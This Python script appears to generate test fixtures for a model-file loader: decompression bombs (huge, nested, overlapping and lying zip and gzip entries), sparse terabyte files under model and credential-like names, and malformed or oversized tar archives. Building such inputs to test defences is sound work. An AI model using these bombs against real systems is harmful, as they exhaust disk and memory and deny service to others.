"""Writes files into the current folder that are far larger inside than outside: row 72 of the attack list.

None of them takes long to make: deflate data that ends on a byte can be repeated, and holes cost nothing.
"""

import gzip
import os
import struct
import zlib

MEGABYTE = 1 << 20
TERABYTE = 1 << 40


def deflated_zeros(megabytes: int, *, after: bytes = b"") -> bytes:
    """Raw deflate data of `after` and so many megabytes of zeros: one piece of 16 MB, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(after) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(16 * MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + piece * (megabytes // 16) + b"\x03\x00"


def npy_header(rows: int, columns: int) -> bytes:
    text = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({rows}, {columns}), }}".encode()
    text += b" " * (63 - (10 + len(text)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def zip_file(entries: list[tuple[str, bytes, int]], *, shared: bool = False) -> bytes:
    """A zip file of (name, deflate data, claimed size). With `shared`, every entry is the bytes of the first."""
    body, directory = b"", b""
    for name, packed, size in entries:
        offset = 0 if shared else len(body)
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(packed), size, len(name), 0)
        if not shared or not body:
            body += b"PK\x03\x04" + fields + name.encode() + packed
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, offset)
        directory += name.encode()
    count = len(entries)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def nested(levels: int) -> bytes:
    """A zip file in a zip file in a zip file, with a large one at the bottom."""
    content = deflated_zeros(512)
    result = zip_file([("bottom.npy", content, 512 * MEGABYTE)])
    for level in range(levels):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        result = zip_file([(f"{level}.zip", packer.compress(result) + packer.flush(), len(result))])
    return result


def tar_header(name: str, size: int, kind: bytes = b"0") -> bytes:
    header = bytearray(512)
    header[: len(name)] = name.encode()
    header[100:108] = b"0000644\x00"
    header[124:136] = b"\x80" + size.to_bytes(11, "big")
    header[156:157] = kind
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\x00 " % sum(header)
    return bytes(header)


def tar_of_many(members: int) -> bytes:
    """So many empty files: one header with another number in it each time."""
    header = bytearray(tar_header("m000000", 0))
    total = sum(header) - 8 * 0x30 - sum(header[148:156]) + 8 * 0x20 + 2 * 0x30
    parts = []
    for number in range(members):
        digits = b"%06d" % number
        header[1:7] = digits
        header[148:156] = b"%06o\x00 " % (total + sum(digits))
        parts.append(bytes(header))
    return b"".join(parts) + bytes(1024)


def write(name: str, content: bytes, *, size: int = 0) -> None:
    with open(name, "wb") as file:
        file.write(content)
        if size:
            file.truncate(size)


rows = 3072 * MEGABYTE // 256
header = npy_header(rows, 64)
gigabytes = deflated_zeros(3072, after=header)
claimed = len(header) + 3072 * MEGABYTE
small = npy_header(4, 64)

write("gzip.onnx", gzip.compress(b"")[:10] + gigabytes + bytes(8))
write("honest.npz", zip_file([("pixels.npy", gigabytes, claimed)]))
write("honest.onnx", zip_file([("pixels.npy", gigabytes, claimed)]))
write("liar.npz", zip_file([("pixels.npy", deflated_zeros(512, after=small), len(small) + 1024)]))
write("ratio.npz", zip_file([("pixels.npy", b"\x03\x00" * 500, 1 << 30)]))
write("overlap.npz", zip_file([(f"p{i}.npy", deflated_zeros(16), 16 * MEGABYTE) for i in range(100)], shared=True))
write("nested.npz", nested(10))
write("promise.npz", zip_file([("pixels.npy", zlib.compress(header)[2:-4], len(header))]))
for suffix in ("onnx", "npz", "npy", "csv", "json", "pem"):
    write(f"sparse.{suffix}", b"", size=TERABYTE)
write("sparse.slipway", tar_header("index.json", TERABYTE - 1536), size=TERABYTE)
write("sparse-old.slipway", tar_header("index.json", 0, b"S") + bytes(1024))
write("sparse-pax.slipway", tar_header("x", 22, b"x") + b"22 GNU.sparse.major=1\n".ljust(512, b"\0") + bytes(1024))
write("many.slipway", tar_of_many(100_001))
write("almost-many.slipway", tar_of_many(100_000))
write("password", b"secret")
os.mkdir("docker")
write("docker/config.json", b"{", size=TERABYTE)
write("weights.bin", b"", size=TERABYTE)
